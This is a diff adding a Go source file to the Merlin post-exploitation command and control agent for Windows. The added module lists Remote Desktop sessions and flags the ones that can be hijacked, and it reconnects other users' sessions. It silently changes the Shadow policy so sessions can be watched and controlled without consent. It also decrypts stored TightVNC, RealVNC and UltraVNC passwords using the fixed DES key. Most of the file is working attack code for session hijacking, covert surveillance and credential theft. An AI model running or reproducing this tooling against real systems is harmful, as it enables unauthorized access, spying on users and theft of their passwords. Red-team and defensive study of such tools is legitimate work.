@@ -0,0 +1,301 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/des"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"text/tabwriter"
+	"time"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/wtsapi32"
+)
+
+// shadowPolicy is the Group Policy key whose Shadow value controls Remote Desktop shadowing
+const shadowPolicy = `SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services`
+
+// vncKey is the fixed DES key VNC servers use to obfuscate stored passwords
+var vncKey = []byte{0xe8, 0x4a, 0xd6, 0x60, 0xc4, 0x72, 0x1a, 0xe0}
+
+// rdpLog is the engagement record of every session action the rdp module took
+var rdpLog = struct {
+	sync.Mutex
+	entries []string
+}{}
+
+// logRDP records an action in the engagement log
+func logRDP(format string, a ...interface{}) {
+	rdpLog.Lock()
+	defer rdpLog.Unlock()
+	rdpLog.entries = append(rdpLog.entries, fmt.Sprintf("%s %s", time.Now().UTC().Format(time.RFC3339), fmt.Sprintf(format, a...)))
+}
+
+// RDP lists, reconnects, and shadows Remote Desktop sessions and recovers VNC server passwords
+// rdp sessions
+// rdp connect <session> <target session|console> [password]
+// rdp disconnect <session>
+// rdp shadow <session>
+// rdp vnc
+// rdp log
+// rdp changes
+// rdp revert <id|all>
+// Reconnecting another user's session without their password requires SYSTEM, the same as tscon
+func RDP(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering RDP() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the rdp command"
+		return
+	}
+
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "sessions":
+		results.Stdout, err = rdpSessions()
+	case "connect":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "not enough arguments provided to the rdp connect command"
+			return
+		}
+		var password string
+		if len(cmd.Args) > 3 {
+			password = cmd.Args[3]
+		}
+		results.Stdout, err = rdpConnect(cmd.Args[1], cmd.Args[2], password)
+	case "disconnect":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the rdp disconnect command"
+			return
+		}
+		var session uint32
+		if session, err = sessionID(cmd.Args[1]); err == nil {
+			if err = wtsapi32.WTSDisconnectSession(session); err == nil {
+				logRDP("disconnected session %d", session)
+				results.Stdout = fmt.Sprintf("Disconnected session %d", session)
+			}
+		}
+	case "shadow":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the rdp shadow command"
+			return
+		}
+		results.Stdout, err = rdpShadow(cmd.Args[1])
+	case "vnc":
+		results.Stdout = vncPasswords()
+	case "log":
+		rdpLog.Lock()
+		results.Stdout = strings.Join(rdpLog.entries, "\n")
+		rdpLog.Unlock()
+		if results.Stdout == "" {
+			results.Stdout = "the rdp module has not taken any actions"
+		}
+	case "changes":
+		results.Stdout = listChanges("rdp")
+	case "revert":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the rdp revert command"
+			return
+		}
+		results.Stdout, err = revertChange("rdp", cmd.Args[1])
+		if err == nil {
+			logRDP("reverted change %s", cmd.Args[1])
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown rdp command: %s", cmd.Args[0])
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+	}
+	return
+}
+
+// rdpSessions returns a table of the sessions and marks the disconnected sessions that can be reconnected
+func rdpSessions() (string, error) {
+	sessions, err := wtsapi32.Sessions()
+	if err != nil {
+		return "", err
+	}
+	var sb strings.Builder
+	w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+	fmt.Fprintln(w, "ID\tStation\tState\tUser\tClient\tHijackable")
+	for _, s := range sessions {
+		user := s.User
+		if s.Domain != "" && s.User != "" {
+			user = s.Domain + "\\" + s.User
+		}
+		client := strings.TrimSpace(s.Client + " " + s.Address)
+		hijack := s.User != "" && s.State == windows.WTSDisconnected
+		fmt.Fprintf(w, "%d\t%s\t%s\t%s\t%s\t%t\n", s.ID, s.Station, wtsapi32.State(s.State), user, client, hijack)
+	}
+	_ = w.Flush()
+	return sb.String(), nil
+}
+
+// rdpConnect connects the source session to the target session's display, the way tscon does
+func rdpConnect(source, target, password string) (string, error) {
+	from, err := sessionID(source)
+	if err != nil {
+		return "", err
+	}
+	to, err := sessionID(target)
+	if err != nil {
+		return "", err
+	}
+	user, _ := wtsapi32.WTSQuerySessionString(from, wtsapi32.WTSUserName)
+	if err = wtsapi32.WTSConnectSession(from, to, password); err != nil {
+		return "", err
+	}
+	logRDP("connected session %d (%s) to session %d", from, user, to)
+	return fmt.Sprintf("Connected session %d (%s) to session %d", from, user, to), nil
+}
+
+// rdpShadow allows shadowing without the user's consent, tracking the policy change so it can be reverted, and
+// returns the command to shadow the session from a Remote Desktop session on this host
+func rdpShadow(session string) (string, error) {
+	id, err := sessionID(session)
+	if err != nil {
+		return "", err
+	}
+	key, _, err := registry.CreateKey(registry.LOCAL_MACHINE, shadowPolicy, registry.QUERY_VALUE|registry.SET_VALUE)
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening the Remote Desktop policy key: %s", err)
+	}
+	defer key.Close()
+	previous, _, existed := key.GetIntegerValue("Shadow")
+	var out string
+	// 2 is full control without the user's permission
+	if existed != nil || previous != 2 {
+		if err = key.SetDWordValue("Shadow", 2); err != nil {
+			return "", fmt.Errorf("there was an error setting the Shadow policy: %s", err)
+		}
+		policy := `HKLM\` + shadowPolicy
+		revert := []string{"reg.exe", "delete", policy, "/v", "Shadow", "/f"}
+		if existed == nil {
+			revert = []string{"reg.exe", "add", policy, "/v", "Shadow", "/t", "REG_DWORD", "/d", strconv.FormatUint(previous, 10), "/f"}
+		}
+		change := recordChange("rdp", "set the Shadow policy to full control without consent", revert...)
+		logRDP("set the Shadow policy to 2 for session %d, change %d", id, change)
+		out = fmt.Sprintf("Set the Shadow policy to full control without consent, revert with change %d\n", change)
+	}
+	logRDP("prepared shadowing of session %d", id)
+	return out + fmt.Sprintf("From a Remote Desktop session on this host run: mstsc.exe /shadow:%d /control /noConsentPrompt", id), nil
+}
+
+// sessionID parses a session ID or "console" for the active console session
+func sessionID(s string) (uint32, error) {
+	if strings.EqualFold(s, "console") {
+		return windows.WTSGetActiveConsoleSessionId(), nil
+	}
+	id, err := strconv.ParseUint(s, 10, 32)
+	if err != nil {
+		return 0, fmt.Errorf("%s is not a valid session ID", s)
+	}
+	return uint32(id), nil
+}
+
+// vncPasswords finds TightVNC, RealVNC, and UltraVNC server passwords and reverses the fixed key DES obfuscation
+func vncPasswords() string {
+	var found []string
+	registryValues := []struct {
+		path  string
+		value string
+	}{
+		{`SOFTWARE\TightVNC\Server`, "Password"},
+		{`SOFTWARE\TightVNC\Server`, "PasswordViewOnly"},
+		{`SOFTWARE\TightVNC\Server`, "ControlPassword"},
+		{`SOFTWARE\RealVNC\vncserver`, "Password"},
+		{`SOFTWARE\RealVNC\WinVNC4`, "Password"},
+		{`SOFTWARE\ORL\WinVNC3`, "Password"},
+	}
+	for _, v := range registryValues {
+		key, err := openKey(registry.LOCAL_MACHINE, v.path, registry.QUERY_VALUE)
+		if err != nil {
+			continue
+		}
+		var data []byte
+		if b, _, err := key.GetBinaryValue(v.value); err == nil {
+			data = b
+		} else if s, _, err := key.GetStringValue(v.value); err == nil {
+			data, _ = hex.DecodeString(s)
+		}
+		key.Close()
+		if password, ok := vncDecrypt(data); ok {
+			found = append(found, fmt.Sprintf("HKLM\\%s\\%s: %s", v.path, v.value, password))
+		}
+	}
+	for _, dir := range []string{os.Getenv("ProgramFiles"), os.Getenv("ProgramFiles(x86)")} {
+		if dir == "" {
+			continue
+		}
+		ini := filepath.Join(dir, "uvnc bvba", "UltraVNC", "ultravnc.ini")
+		data, err := os.ReadFile(ini)
+		if err != nil {
+			continue
+		}
+		for _, line := range strings.Split(string(data), "\n") {
+			name, value, ok := strings.Cut(strings.TrimSpace(line), "=")
+			if !ok || (!strings.EqualFold(name, "passwd") && !strings.EqualFold(name, "passwd2")) {
+				continue
+			}
+			// UltraVNC appends a checksum byte after the 8 byte password
+			b, _ := hex.DecodeString(value)
+			if password, ok := vncDecrypt(b); ok {
+				found = append(found, fmt.Sprintf("%s %s: %s", ini, name, password))
+			}
+		}
+	}
+	if len(found) == 0 {
+		return "no VNC server passwords were found"
+	}
+	logRDP("recovered %d VNC server passwords", len(found))
+	return strings.Join(found, "\n")
+}
+
+// vncDecrypt decrypts the first 8 bytes of a VNC password with the fixed key
+func vncDecrypt(data []byte) (string, bool) {
+	if len(data) < 8 {
+		return "", false
+	}
+	block, err := des.NewCipher(vncKey)
+	if err != nil {
+		return "", false
+	}
+	plain := make([]byte, 8)
+	block.Decrypt(plain, data[:8])
+	return strings.TrimRight(string(plain), "\x00"), true
+}